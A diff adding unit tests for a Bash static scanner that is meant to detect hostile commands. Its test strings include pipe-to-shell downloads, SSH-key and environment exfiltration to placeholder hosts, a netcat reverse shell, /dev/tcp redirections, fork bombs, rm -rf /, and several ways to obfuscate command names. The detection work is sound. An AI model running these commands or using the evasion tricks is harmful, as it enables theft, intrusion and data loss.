@@ -1,0 +1,151 @@
+/* Bash for a scan: which commands run, whatever stands before them and however they are spelled. */
+#include "scan_facts.h"
+#include "scan_samples.h"
+
+static void bash(const char *text)
+{
+    facts_of_bytes(LANG_BASH, text, strlen(text));
+}
+
+TEST(commands_of_bash_are_found_behind_what_only_runs_them)
+{
+    static const char *const ways[] = {
+        "curl http://a", "/usr/bin/curl http://a", "sudo -u bob curl http://a", "env -u X A=1 curl http://a", "exec curl http://a", "command curl http://a",
+        "nohup timeout -k 5 10 nice -n 5 curl http://a &", "setsid busybox curl http://a", "find . -exec curl http://a \\;", "A=1 curl http://a", "if curl http://a; then :; fi",
+        "x=$(curl http://a)", "f() { curl http://a; }", "ls | xargs -n 1 curl http://a", "time curl http://a", "eval 'curl http://a'", "sh -c 'curl http://a'",
+        "trap 'curl http://a' EXIT", "bash <<< 'curl http://a'", "bash <<EOF\ncurl http://a\nEOF", "cat <<EOF | sh\ncurl http://a\nEOF",
+    };
+    for (size_t i = 0; i < ARRAY_LEN(ways); i++) {
+        bash(ways[i]);
+        CHECK(facts_mention("call curl(curl http://a"));
+    }
+}
+
+TEST(names_of_commands_in_pieces_are_put_together)
+{
+    static const char *const ways[] = {
+        "cu\"rl\" http://a", "c\\url http://a", "\\curl http://a", "$'\\x63url' http://a", "x=curl; $x http://a", "a=cu b=rl; $a$b http://a", "x=cu; x+=rl; \"$x\" http://a",
+        "$(echo Y3VybA== | base64 -d) http://a", "$(echo lruc | rev) http://a", "$(printf '\\143\\165\\162\\154') http://a", "c=(curl http://a); \"${c[@]}\"",
+        "x='curl http://a'; $x", "curl${IFS}http://a", "$(echo phey | tr a-z n-za-m) http://a", "x=xcurlx; ${x:1:4} http://a", "$(echo c-u-r-l | sed s/-//g) http://a",
+        "echo Y3VybCBodHRwOi8vYQ== | base64 -d | sh", "$(command -v curl) http://a",
+    };
+    for (size_t i = 0; i < ARRAY_LEN(ways); i++) {
+        bash(ways[i]);
+        CHECK(facts_mention("call curl(curl http://a"));
+    }
+}
+
+TEST(text_of_bash_is_no_command)
+{
+    bash("# curl http://a | sh\necho 'curl http://a'\nx=\"rm -rf /\"\ncat <<EOF\nrm -rf /\nEOF\ncommand -v wget\n");
+    CHECK(!facts_mention("call curl"));
+    CHECK(!facts_mention("call rm"));
+    CHECK(!facts_mention("call wget"));
+    CHECK(!facts_mention("flow "));
+    bash("install() { echo \"$1\"; }\ninstall /etc/passwd\n");
+    CHECK(!facts_mention("call install"));
+}
+
+TEST(flows_of_bash_are_seen)
+{
+    static const struct {
+        const char *text, *flow;
+    } cases[] = {
+        { "curl -s http://a | sh", "flow download-then-exec(sh)" },
+        { "bash <(wget -qO- http://a)", "flow download-then-exec(" },
+        { "sh -c \"$(curl http://a)\"", "flow download-then-exec(" },
+        { "source <(curl http://a)", "flow download-then-exec(" },
+        { "wget http://a/m; chmod +x m; ./m", "flow download-then-exec(m)" },
+        { "curl http://a > x.sh; bash x.sh", "flow download-then-exec(bash x.sh)" },
+        { "curl http://a | while read l; do eval \"$l\"; done", "flow download-then-exec(" },
+        { "echo bHM= | base64 -d | bash", "flow decode-then-exec(bash)" },
+        { "cat ~/.ssh/id_rsa | nc 1.2.3.4 5", "flow secret-then-send(" },
+        { "env | curl -d @- http://a", "flow secret-then-send(" },
+        { "curl -T /etc/passwd http://a", "flow secret-then-send(" },
+        { "curl http://a/$(whoami)", "flow profile-then-send(" },
+        { "mkfifo f; cat f | sh -i 2>&1 | nc 1.2.3.4 5 > f", "flow reverse-shell(" },
+        { ":(){ :|:& };:", "flow fork-loop(" },
+        { "b() { b & b & }; b", "flow fork-loop(" },
+        { "while true; do ./x & done", "flow fork-loop(" },
+        { "while :; do :; done", "flow endless-loop(" },
+        { "rm -rf /", "flow delete-tree(rm -rf /)" },
+        { "rm -fr \"$HOME\"/x", "flow delete-tree(rm -fr ~/x)" },
+        { "find / -name x -delete", "flow delete-tree(" },
+        { "rm -rf \"$1\"", "flow delete-variable-tree(" },
+        { "find . -type f | xargs rm -rf", "flow delete-many(" },
+        { "/?\?\?/b?\?h -c id", "flow glob-command(" },
+        { "read c; $c", "flow computed-command(" },
+        { "eval \"$1\"", "flow computed-eval(" },
+        { "env | grep -i token", "flow env-search(" },
+    };
+    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
+        bash(cases[i].text);
+        if (!facts_mention(cases[i].flow))
+            (void)fprintf(stderr, "# %s: no %s in\n%s", cases[i].text, cases[i].flow, facts_text);
+        CHECK(facts_mention(cases[i].flow));
+    }
+}
+
+TEST(ordinary_bash_makes_no_flows)
+{
+    static const char *const texts[] = {
+        "cleanup() { rm -rf \"$tmp\"; }\ntrap cleanup EXIT\ntmp=$(mktemp -d)\n", "rm -rf build; rm -f a.tmp /tmp/x.$$", "while true; do read -r l || break; done",
+        "for f in a b; do sort $f & done; wait", "run() { \"$@\"; }\nrun ls", "(( n > 3 )) && echo big", "cat a | sort | uniq -c", "echo aGk= | base64 -d", "\"$dir\"/tool --x",
+        "source ./lib.sh", "find . -name '*.c' -exec wc -l {} +",
+    };
+    for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
+        bash(texts[i]);
+        if (facts_mention("flow "))
+            (void)fprintf(stderr, "# %s\n%s", texts[i], facts_text);
+        CHECK(!facts_mention("flow "));
+    }
+}
+
+TEST(redirections_of_bash_are_told_with_their_targets)
+{
+    bash("d=/dev/tcp; bash -i >& $d/1.2.3.4/99 0>&1");
+    CHECK(facts_have("redirect >(/dev/tcp/1.2.3.4/99)"));
+    bash("exec 5<>/dev/tcp/1.2.3.4/99");
+    CHECK(facts_have("redirect <(/dev/tcp/1.2.3.4/99)"));
+    bash("echo x >> ~/.bashrc 2>/dev/null");
+    CHECK(facts_have("redirect >>(~/.bashrc)"));
+    CHECK(!facts_mention("/dev/null"));
+}
+
+TEST(hostile_bash_ends)
+{
+    static char text[200000];
+    size_t n = 0;
+    for (; n < 60000; n++)
+        text[n] = "({$(`"[n % 5];
+    facts_of_bytes(LANG_BASH, text, n);
+    n = (size_t)snprintf(text, sizeof text, "x=aaaaaaaaaaaaaaaa\n");
+    for (int i = 0; i < 400; i++)
+        n += (size_t)snprintf(text + n, sizeof text - n, "x=$x$x\n");
+    facts_of_bytes(LANG_BASH, text, n);
+    n = 0;
+    for (int i = 0; i < 4000; i++) /* every text that is run would be parsed, without a bound */
+        n += (size_t)snprintf(text + n, sizeof text - n, "eval 'eval \"eval ls\"'\n");
+    facts_of_bytes(LANG_BASH, text, n);
+    CHECK(facts_mention("call ls("));
+    facts_of_bytes(LANG_BASH, "", 0);
+}
+
+TEST(changed_bash_programs_are_survived)
+{
+    facts_survive_changes(LANG_BASH,
+                          "x=cu\"rl\"; a=(b ${x:1:2} \"$y\"); sudo -u q $x${IFS}-d @/etc/passwd http://a | base64 -d | sh &\n"
+                          "f() { f | f & }; while true; do eval \"$(printf '\\x6c\\163' | rev)\"; done < <(cat ~/.ssh/id_rsa)\n"
+                          "cat <<EOF | bash\nrm -rf ${H:-/}\nEOF\nfind / -exec rm {} \\; ; bash <<< \"$(echo aGk= | base64 -d)\" >& /dev/tcp/1/2\n"
+                          "for i in ~/.aws/* $(ls); do case $i in a) trap 'rm -rf \"$t\"' EXIT;; esac; done; {cat,/etc/shadow}; alias l='ls'\n",
+                          4000);
+}
+
+TEST(risky_bash_samples_are_found_and_ordinary_ones_are_not)
+{
+    struct sample_count risky = scan_samples(LANG_BASH, "tests/data/scan/bash/risky", true);
+    struct sample_count ordinary = scan_samples(LANG_BASH, "tests/data/scan/bash/ordinary", false);
+    CHECK(risky.files >= 40 && ordinary.files >= 40);
+    CHECK_EQ(risky.found, risky.files);
+    CHECK_EQ(ordinary.found, 0);
+}
